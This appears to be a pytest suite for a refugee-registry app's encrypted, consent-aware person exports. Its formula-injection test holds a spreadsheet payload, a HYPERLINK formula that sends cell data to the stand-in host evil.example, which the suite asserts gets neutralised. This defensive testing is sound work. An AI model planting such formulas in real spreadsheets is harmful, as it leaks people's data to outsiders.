"""Person-level exports: the columns of awda/imports/columns.py, the organisation's
people only, encrypted by default, consent respected, always audited."""

from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path

import pytest
import pyzipper
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation

from awda.audit.models import Action, AuditEntry
from awda.conftest import child, head, logged_in, make_user, place, register
from awda.consent.models import Consent, LegalBasis, Purpose
from awda.consent.services import consent_record, consent_revoke
from awda.imports.columns import COLUMNS
from awda.registry.models import CivilDocument, Household, Person

PASSWORD = "a long secret phrase 42"


def _rows(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads Arabic as Arabic
    reader = csv.DictReader(io.StringIO(text[1:]))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def _download(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _unzip(content: bytes, password: str | None) -> tuple[str, bytes]:
    with pyzipper.AESZipFile(io.BytesIO(content)) as archive:
        (info,) = archive.infolist()
        if password is not None:
            archive.setpassword(password.encode())
        return info.filename, archive.read(info.filename)


def _post(client, **fields):
    data = {"fmt": "csv", "password": PASSWORD, "password_again": PASSWORD, **fields}
    return client.post("/exports/persons/", data)


@pytest.fixture
def family(caseworker):
    household = register(
        caseworker,
        reference="A-0001",
        members=[
            head(first_name_lat="Fatima", family_name_lat="Al-Jubouri", needs=["WR", "SP"]),
            child(documents={"birth_certificate": "missing", "family_booklet": "held"}),
        ],
        destination=place("SY020000"),
    )
    return household


def test_the_csv_has_the_import_columns_with_their_values(supervisor, family):
    export_rows = _rows(
        _download(
            _post(
                logged_in(supervisor),
                unencrypted="on",
                unencrypted_reason="for the camp office's own encrypted drive",
            )
        )
    )
    head_row, child_row = export_rows
    today = timezone.localdate().isoformat()
    assert head_row == {
        "household_reference": "A-0001",
        "camp": "SY080006-HOL",
        "camp_section": "SY080006-HOL-P2",
        "camp_block": "SY080006-HOL-P2-B03",
        "tent": "17",
        "origin": "IQG01Q01N01",
        "destination": family.destination.pcode,
        "household_nationality": "IQ",
        "registered_on": today,
        "relationship": "head",
        "first_name_ar": "فاطمة",
        "father_name_ar": "أحمد",
        "grandfather_name_ar": "محمود",
        "family_name_ar": "الجبوري",
        "first_name_lat": "Fatima",
        "father_name_lat": "",
        "grandfather_name_lat": "",
        "family_name_lat": "Al-Jubouri",
        "sex": "F",
        "date_of_birth": "1990-03-14",
        "dob_precision": "exact",
        "nationality": "",
        "documents": head_row["documents"],  # whatever the registration recorded
        "needs": "SP;WR",
        "submission_id": "",
    }
    assert child_row["relationship"] == "child"
    assert child_row["sex"] == "M"
    assert child_row["date_of_birth"] == "2019"  # only the year is known
    assert child_row["dob_precision"] == "year"
    assert child_row["documents"] == "birth_certificate:missing;family_booklet:held"
    assert child_row["needs"] == ""
    assert child_row["household_reference"] == "A-0001"


def test_documents_are_kind_status_pairs_of_the_registry(supervisor, family):
    person = family.members.get(relationship="head")
    expected = ";".join(
        f"{d.kind}:{d.status}" for d in CivilDocument.objects.filter(person=person).order_by("kind")
    )
    response = _post(
        logged_in(supervisor), unencrypted="on", unencrypted_reason="checked on an encrypted laptop"
    )
    assert _rows(_download(response))[0]["documents"] == expected


def test_it_leaves_out_merged_registrations_and_people_who_left(supervisor, caseworker, family):
    from awda.identity.models import MatchCandidate
    from awda.identity.services import candidate_merge

    twin = register(
        caseworker,
        reference="A-0002",
        members=[
            head(
                first_name_lat="Fatima",
                date_of_birth=datetime.date(1990, 1, 1),
                dob_precision="year",
            )
        ],
    ).members.get()
    one = family.members.get(relationship="head")
    candidate = MatchCandidate.objects.create(person_a=one, person_b=twin, score=0.99, evidence={})
    candidate_merge(candidate=candidate, by=supervisor, survivor=one)
    assert Person.objects.get(pk=twin.pk).merged_into_id == one.pk
    loose = Person.objects.create(
        organisation=supervisor.organisation, first_name_ar="بلا", sex="F"
    )
    rows = _rows(
        _download(
            _post(
                logged_in(supervisor),
                unencrypted="on",
                unencrypted_reason="checked on an encrypted laptop",
            )
        )
    )
    references = [r["household_reference"] for r in rows]
    assert references == ["A-0001", "A-0001"]
    assert loose.first_name_ar not in str(rows)


def test_another_organisations_people_are_never_in_it(supervisor, family, other_household):
    rows = _rows(
        _download(
            _post(
                logged_in(supervisor),
                unencrypted="on",
                unencrypted_reason="checked on an encrypted laptop",
            )
        )
    )
    assert {r["household_reference"] for r in rows} == {"A-0001"}
    assert "مريم" not in str(rows)
    # and B's supervisor gets B's, not A's
    from awda.conftest import make_user

    other = make_user("otto", other_household.organisation, "supervisor")
    rows = _rows(
        _download(
            _post(
                logged_in(other),
                unencrypted="on",
                unencrypted_reason="checked on an encrypted laptop",
            )
        )
    )
    assert {r["household_reference"] for r in rows} == {"B-0001"}


def test_by_default_it_is_an_encrypted_zip_that_opens_with_the_password_only(supervisor, family):
    response = _post(logged_in(supervisor))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Cache-Control"] == "no-store"
    content = _download(response)
    assert "الجبوري".encode() not in content and b"A-0001" not in content
    name, inner = _unzip(content, PASSWORD)
    assert name.endswith(".csv") and "org-a" in name
    assert len(_rows(inner)) == 2
    with pytest.raises(RuntimeError):
        _unzip(content, None)
    with pytest.raises(RuntimeError):
        _unzip(content, "not the password at all")
    assert _aes_strength(content) == 256


def _aes_strength(content: bytes) -> int:
    """The key length of the member's WinZip AES extra field (0x9901): 1, 2, 3 = 128, 192,
    256 bits."""
    with pyzipper.AESZipFile(io.BytesIO(content)) as archive:
        extra = archive.infolist()[0].extra
    at = extra.index(b"\x01\x99")
    vendor, strength = extra[at + 6 : at + 8], extra[at + 8]
    assert vendor == b"AE"
    return {1: 128, 2: 192, 3: 256}[strength]


def test_the_xlsx_is_encrypted_too(supervisor, family):
    from openpyxl import load_workbook

    content = _download(_post(logged_in(supervisor), fmt="xlsx"))
    name, inner = _unzip(content, PASSWORD)
    assert name.endswith(".xlsx")
    rows = list(load_workbook(io.BytesIO(inner), read_only=True).active.values)
    assert rows[0] == COLUMNS
    assert rows[1][COLUMNS.index("first_name_ar")] == "فاطمة"
    assert len(rows) == 3


def test_a_short_or_mistyped_password_is_refused(supervisor, family):
    client = logged_in(supervisor)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"  # the messages compared below
    with translation.override("en"):
        response = client.post(
            "/exports/persons/",
            {"fmt": "csv", "password": "short", "password_again": "short"},
            HTTP_ACCEPT_LANGUAGE="en",
        )
    assert response["Content-Type"].startswith("text/html")
    assert "at least 12 characters" in response.content.decode()
    response = client.post(
        "/exports/persons/", {"fmt": "csv", "password": PASSWORD, "password_again": PASSWORD + "x"}
    )
    assert response["Content-Type"].startswith("text/html")
    assert PASSWORD not in response.content.decode()  # never shown again
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_unencrypted_needs_the_tick_and_a_reason(supervisor, family):
    client = logged_in(supervisor)
    # a reason without the tick: still encrypted (no password: refused)
    response = client.post(
        "/exports/persons/", {"fmt": "csv", "unencrypted_reason": "because I want"}
    )
    assert response["Content-Type"].startswith("text/html")
    # the tick without a reason: refused
    response = client.post("/exports/persons/", {"fmt": "csv", "unencrypted": "on"})
    assert response["Content-Type"].startswith("text/html")
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()
    response = client.post(
        "/exports/persons/",
        {
            "fmt": "csv",
            "unencrypted": "on",
            "unencrypted_reason": "stored on the office's BitLocker drive",
        },
    )
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert len(_rows(_download(response))) == 2
    entry = AuditEntry.objects.get(action=Action.EXPORT)
    assert entry.actor == supervisor
    assert entry.details["encrypted"] is False
    assert entry.details["unencrypted_reason"] == "stored on the office's BitLocker drive"


def test_the_export_is_audited(supervisor, family):
    _download(_post(logged_in(supervisor)))
    entry = AuditEntry.objects.get(action=Action.EXPORT)
    assert entry.actor == supervisor and entry.organisation == supervisor.organisation
    assert entry.channel == "web"
    assert entry.details == {
        "channel": "web",
        "kind": "persons",
        "format": "csv",
        "rows": 2,
        "organisation": "org-a",
        "encrypted": True,
        "left_out_for_consent": 0,
    }
    assert PASSWORD not in str(entry.details)


@pytest.mark.parametrize("role", ["caseworker", "registrar", "dpo", "donor", "admin"])
def test_only_roles_allowed_get_a_person_level_export(org_a, family, role):
    user = make_user(f"user-{role}", org_a, role)
    response = _post(
        logged_in(user), unencrypted="on", unencrypted_reason="checked on an encrypted laptop"
    )
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_the_page_says_what_each_role_may_export(supervisor, donor, family):
    with translation.override("en"):
        page = logged_in(supervisor).get("/exports/", HTTP_ACCEPT_LANGUAGE="en")
        assert page.status_code == 200
        assert 'action="/exports/persons/"' in page.content.decode()
        assert 'action="/exports/pseudonymised/"' in page.content.decode()
        page = logged_in(donor).get("/exports/")
        assert page.status_code == 200
        body = page.content.decode()
        assert "/exports/persons/" not in body and "/exports/pseudonymised/" not in body
        assert "/exports/aggregate/origin.csv" in body
    assert logged_in(supervisor).get("/exports/persons/").status_code == 405


# -- Consent ---------------------------------------------------------------------------------


def _withdraw_registration_consent(by, person):
    consent = consent_record(
        by=by,
        person=person,
        purpose=Purpose.REGISTRATION,
        legal_basis=LegalBasis.CONSENT,
        given_by=Consent.GivenBy.PERSON,
    )
    consent_revoke(by=by, consent=consent)


def test_people_whose_registration_consent_was_withdrawn_are_left_out(supervisor, family):
    head_person = family.members.get(relationship="head")
    _withdraw_registration_consent(supervisor, head_person)
    # a consent in force for the child, and a public-interest basis count as in force
    child_person = family.members.get(relationship="child")
    consent_record(
        by=supervisor,
        person=child_person,
        purpose=Purpose.REGISTRATION,
        legal_basis=LegalBasis.PUBLIC_INTEREST,
        note="Camp registration under the administration's mandate",
    )
    client = logged_in(supervisor)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"  # the messages compared below
    with translation.override("en"):
        page = client.get("/exports/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "1 person withdrew their registration consent" in page
    rows = _rows(
        _download(
            _post(client, unencrypted="on", unencrypted_reason="checked on an encrypted laptop")
        )
    )
    assert [r["relationship"] for r in rows] == ["child"]
    assert AuditEntry.objects.get(action=Action.EXPORT).details["left_out_for_consent"] == 1


def test_a_person_with_consent_again_after_withdrawing_is_in_it(supervisor, family):
    head_person = family.members.get(relationship="head")
    _withdraw_registration_consent(supervisor, head_person)
    consent_record(
        by=supervisor,
        person=head_person,
        purpose=Purpose.REGISTRATION,
        legal_basis=LegalBasis.CONSENT,
        given_by=Consent.GivenBy.PERSON,
    )
    rows = _rows(
        _download(
            _post(
                logged_in(supervisor),
                unencrypted="on",
                unencrypted_reason="checked on an encrypted laptop",
            )
        )
    )
    assert len(rows) == 2


def test_a_supervisor_may_include_them_with_a_reason_audited_as_an_override(supervisor, family):
    _withdraw_registration_consent(supervisor, family.members.get(relationship="head"))
    client = logged_in(supervisor)
    response = _post(client, include_withdrawn="on")
    assert response["Content-Type"].startswith("text/html")  # no reason: refused
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()
    response = _post(
        client, include_withdrawn="on", override_reason="Court order 12/2025 for the family file"
    )
    _name, inner = _unzip(_download(response), PASSWORD)
    assert len(_rows(inner)) == 2
    details = AuditEntry.objects.get(action=Action.EXPORT).details
    assert details["consent_override"] == {
        "people": 1,
        "reason": "Court order 12/2025 for the family file",
    }
    assert details["left_out_for_consent"] == 0


# -- Formula injection -----------------------------------------------------------------------


def test_cells_that_a_spreadsheet_would_run_are_neutralised(supervisor, family):
    # the registration form refuses such names: written straight to the database
    Person.objects.filter(household=family, relationship="child").update(
        first_name_lat='=HYPERLINK("http://evil.example/?"&A1,"click")',
        family_name_lat="+SUM(1)",
        father_name_lat="-2+3",
        grandfather_name_lat="@cmd",
    )
    Household.objects.filter(pk=family.pk).update(tent="\t=1+1")
    response = _post(
        logged_in(supervisor), unencrypted="on", unencrypted_reason="checked on an encrypted laptop"
    )
    row = _rows(_download(response))[1]
    assert row["first_name_lat"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["family_name_lat"] == "'+SUM(1)"
    assert row["father_name_lat"] == "'-2+3"
    assert row["grandfather_name_lat"] == "'@cmd"
    assert row["tent"] == "'\t=1+1"


def test_xlsx_cells_are_neutralised_too(supervisor, family):
    from openpyxl import load_workbook

    Person.objects.filter(household=family, relationship="child").update(first_name_lat="=1+1")
    content = _download(
        _post(
            logged_in(supervisor),
            fmt="xlsx",
            unencrypted="on",
            unencrypted_reason="checked on an encrypted laptop",
        )
    )
    book = load_workbook(io.BytesIO(content))
    sheet = book.active
    cell = sheet.cell(row=3, column=COLUMNS.index("first_name_lat") + 1)
    assert cell.value == "'=1+1" and cell.data_type == "s"


# -- Queries ---------------------------------------------------------------------------------


def _queries_of_an_export(client) -> tuple[int, int]:
    with CaptureQueriesContext(connection) as queries:
        response = _post(
            client, unencrypted="on", unencrypted_reason="checked on an encrypted laptop"
        )
        rows = _rows(_download(response))
    return len(queries.captured_queries), len(rows)


def test_queries_do_not_grow_with_the_number_of_people(supervisor, caseworker, monkeypatch):
    from awda.exports import selectors

    client = logged_in(supervisor)
    register(caseworker, reference="A-0000", members=[head(needs=["WR"]), child()])
    few, rows = _queries_of_an_export(client)
    assert rows == 2 and few <= 20
    for n in range(1, 30):
        register(caseworker, reference=f"A-{n:04d}", members=[head(needs=["WR"]), child()])
    many, rows = _queries_of_an_export(client)
    assert rows == 60 and many == few
    # Documents and needs are read per chunk of people: two queries more per chunk.
    monkeypatch.setattr(selectors, "CHUNK_SIZE", 25)
    chunked, rows = _queries_of_an_export(client)
    assert rows == 60 and chunked == few + 2 * 2  # 3 chunks instead of 1


# -- The command -----------------------------------------------------------------------------


def test_the_command_writes_the_csv_and_audits_it(family, other_household, tmp_path: Path):
    output = tmp_path / "people.csv"
    out = io.StringIO()
    call_command("export", "persons", "--org", "org-a", "--output", str(output), stdout=out)
    assert "2 people written" in out.getvalue()
    assert output.stat().st_mode & 0o777 == 0o600
    rows = _rows(output.read_bytes())
    assert [r["household_reference"] for r in rows] == ["A-0001", "A-0001"]
    entry = AuditEntry.objects.get(action=Action.EXPORT)
    assert entry.actor is None and entry.channel == "cli"
    assert entry.details["channel"] == "command"
    assert entry.details["kind"] == "persons"
    assert entry.details["rows"] == 2
    assert entry.details["organisation"] == "org-a"


def test_the_command_writes_an_encrypted_zip_with_the_password_file(family, tmp_path: Path):
    secret = tmp_path / "password"
    secret.write_text(PASSWORD + "\n")
    output = tmp_path / "people.zip"
    call_command(
        "export",
        "persons",
        "--org",
        "org-a",
        "--output",
        str(output),
        "--encrypt",
        "--password-file",
        str(secret),
        "--format",
        "xlsx",
        stdout=io.StringIO(),
    )
    name, _inner = _unzip(output.read_bytes(), PASSWORD)
    assert name.endswith(".xlsx")
    assert AuditEntry.objects.get(action=Action.EXPORT).details["encrypted"] is True


def test_the_command_refuses_an_unknown_organisation_and_a_short_password(family, tmp_path: Path):
    with pytest.raises(CommandError, match="unknown organisation 'nope'"):
        call_command("export", "persons", "--org", "nope", "--output", str(tmp_path / "x.csv"))
    secret = tmp_path / "password"
    secret.write_text("short\n")
    with pytest.raises(CommandError, match="at least 12 characters"):
        call_command(
            "export",
            "persons",
            "--org",
            "org-a",
            "--output",
            str(tmp_path / "x.zip"),
            "--encrypt",
            "--password-file",
            str(secret),
        )
    with pytest.raises(CommandError, match="--encrypt needs --password-file"):
        call_command(
            "export", "persons", "--org", "org-a", "--output", str(tmp_path / "x.zip"), "--encrypt"
        )
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "x.zip").exists()
    assert not AuditEntry.objects.filter(action=Action.EXPORT).exists()


def test_the_command_leaves_out_withdrawn_consent_unless_told_with_a_reason(
    supervisor, family, tmp_path: Path
):
    _withdraw_registration_consent(supervisor, family.members.get(relationship="head"))
    output = tmp_path / "people.csv"
    out = io.StringIO()
    call_command("export", "persons", "--org", "org-a", "--output", str(output), stdout=out)
    assert "1 left out" in out.getvalue()
    assert len(_rows(output.read_bytes())) == 1
    with pytest.raises(CommandError, match="withdrew their consent"), translation.override("en"):
        call_command(
            "export",
            "persons",
            "--org",
            "org-a",
            "--output",
            str(output),
            "--include-withdrawn-consent",
        )
    call_command(
        "export",
        "persons",
        "--org",
        "org-a",
        "--output",
        str(output),
        "--include-withdrawn-consent",
        "--reason",
        "Court order 12/2025",
        stdout=io.StringIO(),
    )
    assert len(_rows(output.read_bytes())) == 2
